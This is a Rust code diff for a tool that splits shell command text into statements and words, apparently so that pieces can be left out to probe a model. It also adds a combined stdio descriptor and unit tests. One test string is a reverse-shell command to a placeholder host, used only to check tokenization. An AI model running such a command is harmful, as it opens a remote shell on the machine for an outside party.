@@ -19,9 +19,11 @@ pub(crate) enum Text {
     Line(usize),
 }
 
-/// Standard input, output and error.
+/// Standard descriptors.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(crate) enum Stdio {
+    /// All three, where they are of one kind.
+    All,
     Input,
     Output,
     Error,
@@ -116,14 +118,15 @@ fn program(process: &Process, parts: &mut Vec<Part>) {
 }
 
 fn state(process: &Process, parts: &mut Vec<Part>) {
-    for (which, kind) in [
-        (Stdio::Input, process.stdin),
-        (Stdio::Output, process.stdout),
-        (Stdio::Error, process.stderr),
-    ] {
-        if kind != StdioKind::Unknown {
-            parts.push(Part::Stdio(which));
-        }
+    let kinds = [process.stdin, process.stdout, process.stderr];
+    if kinds == [process.stdin; 3] && process.stdin != StdioKind::Unknown {
+        parts.push(Part::Stdio(Stdio::All));
+    } else {
+        let named = [Stdio::Input, Stdio::Output, Stdio::Error]
+            .into_iter()
+            .zip(kinds);
+        let known = named.filter(|(_, kind)| *kind != StdioKind::Unknown);
+        parts.extend(known.map(|(which, _)| Part::Stdio(which)));
     }
     for (is_there, part) in [
         (process.tty.is_some(), Part::Terminal),
@@ -188,9 +191,9 @@ pub(crate) fn is_like(a: &Connection, b: &Connection) -> bool {
 /// A text cut at what ends a shell statement; at spaces where there is only one. Quotes are not
 /// looked at: a piece is left out to see what the model makes of the rest, not to be run.
 fn pieces(text: &str) -> impl Iterator<Item = Range<usize>> + use<> {
-    let mut cuts = cut(text, |c| matches!(c, ';' | '|' | '&' | '\n'));
+    let mut cuts = cut(text, ends_statement);
     if cuts.len() < 2 {
-        cuts = cut(text, char::is_whitespace);
+        cuts = cut(text, |_, c, _| c.is_whitespace());
     }
     if cuts.len() > MOST {
         let last = cuts[MOST - 1].start..text.len();
@@ -200,20 +203,69 @@ fn pieces(text: &str) -> impl Iterator<Item = Range<usize>> + use<> {
     cuts.into_iter()
 }
 
-fn cut(text: &str, is_end: impl Fn(char) -> bool) -> Vec<Range<usize>> {
+/// Takes the characters before and behind too: in `0>&1` and `&>log` the ampersand ends nothing.
+fn ends_statement(before: Option<char>, c: char, behind: Option<char>) -> bool {
+    match c {
+        ';' | '|' | '\n' => true,
+        '&' => !matches!(before, Some('>' | '<')) && behind != Some('>'),
+        _ => false,
+    }
+}
+
+fn cut(text: &str, is_end: fn(Option<char>, char, Option<char>) -> bool) -> Vec<Range<usize>> {
     let mut cuts = Vec::new();
-    let mut start = 0;
-    for (at, c) in text.char_indices().filter(|(_, c)| is_end(*c)) {
-        if !text[start..at].trim().is_empty() {
-            cuts.push(start..at);
+    let (mut start, mut before) = (0, None);
+    for (at, c) in text.char_indices() {
+        let next = at + c.len_utf8();
+        if is_end(before, c, text[next..].chars().next()) {
+            push_trimmed(text, start..at, &mut cuts);
+            start = next;
         }
-        start = at + c.len_utf8();
+        before = Some(c);
         if cuts.len() > MOST {
             return cuts;
         }
     }
-    if !text[start..].trim().is_empty() {
-        cuts.push(start..text.len());
-    }
+    push_trimmed(text, start..text.len(), &mut cuts);
     cuts
+}
+
+fn push_trimmed(text: &str, at: Range<usize>, cuts: &mut Vec<Range<usize>>) {
+    let piece = text[at.clone()].trim_start();
+    let start = at.end - piece.len();
+    let end = start + piece.trim_end().len();
+    if start < end {
+        cuts.push(start..end);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(text: &str) -> Vec<&str> {
+        pieces(text).map(|at| &text[at]).collect()
+    }
+
+    #[test]
+    fn a_command_is_cut_into_statements_and_a_statement_into_words() {
+        assert_eq!(check("cd /tmp && ls; ./x &"), ["cd /tmp", "ls", "./x"]);
+        assert_eq!(
+            check("sh -i >& /dev/tcp/h/1 0>&1"),
+            ["sh", "-i", ">&", "/dev/tcp/h/1", "0>&1"]
+        );
+        assert_eq!(check("a &> b | c 2>&1"), ["a &> b", "c 2>&1"]);
+        assert_eq!(check(" \n"), Vec::<&str>::new());
+        assert_eq!(check("é\u{a0}x"), ["é", "x"]);
+    }
+
+    #[test]
+    fn long_texts_end_in_one_piece_for_the_rest() {
+        let text = "x;".repeat(1000);
+        let found = check(&text);
+        assert_eq!(
+            (found.len(), found[0], found[MOST - 1].len()),
+            (MOST, "x", 2000 - 2 * (MOST - 1))
+        );
+    }
 }
